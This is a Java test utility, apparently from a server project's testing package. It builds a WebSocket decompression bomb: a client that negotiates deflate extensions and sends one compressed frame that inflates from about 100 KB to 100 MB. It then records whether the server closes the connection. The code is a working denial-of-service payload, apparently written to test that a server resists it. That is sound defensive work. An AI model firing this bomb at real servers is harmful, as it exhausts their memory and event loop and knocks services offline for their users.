package dev.glassbox.core.testing;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Locale;
import java.util.zip.Deflater;

/**
 * A WebSocket client that offers every compression extension and then sends one text frame marked compressed
 * (RSV1) whose 100 KB of deflate inflate to 100 MB. A server that accepts per-frame deflate inflates it on its
 * event loop: the frame size limits count compressed bytes.
 */
public final class InflationBomb {
    /** What the server answered: its Sec-WebSocket-Extensions header ("" for none), and whether it ended the connection. */
    public record Outcome(String extensions, boolean closed) {
    }

    private static final int INFLATED_MB = 100;

    private InflationBomb() {
    }

    /** Offers compression on {@code path}, sends the bomb, and waits up to {@code withinMs} for the connection to end. */
    public static Outcome attack(String from, int port, String path, String origin, long withinMs) throws IOException {
        try (Socket socket = RawHttp.connect(from, port)) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write(("GET " + path + " HTTP/1.1\r\nHost: localhost:" + port
                    + "\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
                    + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n" + (origin == null ? "" : "Origin: " + origin + "\r\n")
                    + "Sec-WebSocket-Extensions: permessage-deflate, deflate-frame, x-webkit-deflate-frame\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            String head = head(socket.getInputStream());
            String extensions = head.lines().filter(line -> line.toLowerCase(Locale.ROOT).startsWith("sec-websocket-extensions:"))
                    .map(line -> line.substring(line.indexOf(':') + 1).strip()).findFirst().orElse("");
            try {
                // FIN, RSV1 (compressed) and the text opcode
                socket.getOutputStream().write(RawWebSocket.frame(0xC1, deflatedSpaces()));
            } catch (IOException cutWhileWriting) {
                return new Outcome(extensions, true);
            }
            return new Outcome(extensions, endsWithin(socket, withinMs));
        }
    }

    /** True once the server has ended the connection, whatever it sent before (a close frame), within {@code withinMs}. */
    private static boolean endsWithin(Socket socket, long withinMs) throws IOException {
        long deadline = System.currentTimeMillis() + withinMs;
        byte[] skipped = new byte[4096];
        while (System.currentTimeMillis() < deadline) {
            socket.setSoTimeout((int) Math.max(1, deadline - System.currentTimeMillis()));
            try {
                if (socket.getInputStream().read(skipped) < 0) {
                    return true;
                }
            } catch (SocketTimeoutException stillOpen) {
                return false;
            } catch (IOException reset) {
                return true;
            }
        }
        return false;
    }

    private static String head(InputStream in) throws IOException {
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        while (!head.toString(StandardCharsets.ISO_8859_1).endsWith("\r\n\r\n")) {
            int b = in.read();
            if (b < 0) {
                break;
            }
            head.write(b);
        }
        return head.toString(StandardCharsets.ISO_8859_1);
    }

    /** Raw deflate of {@link #INFLATED_MB} MB of spaces, sync-flushed and without its final empty block, as deflate-frame sends. */
    private static byte[] deflatedSpaces() {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        byte[] spaces = new byte[1024 * 1024];
        Arrays.fill(spaces, (byte) ' ');
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buffer = new byte[64 * 1024];
        for (int i = 0; i < INFLATED_MB; i++) {
            deflater.setInput(spaces);
            while (!deflater.needsInput()) {
                out.write(buffer, 0, deflater.deflate(buffer, 0, buffer.length, Deflater.NO_FLUSH));
            }
        }
        int n;
        do {
            n = deflater.deflate(buffer, 0, buffer.length, Deflater.SYNC_FLUSH);
            out.write(buffer, 0, n);
        } while (n == buffer.length);
        deflater.end();
        byte[] all = out.toByteArray();
        return Arrays.copyOf(all, all.length - 4);
    }
}
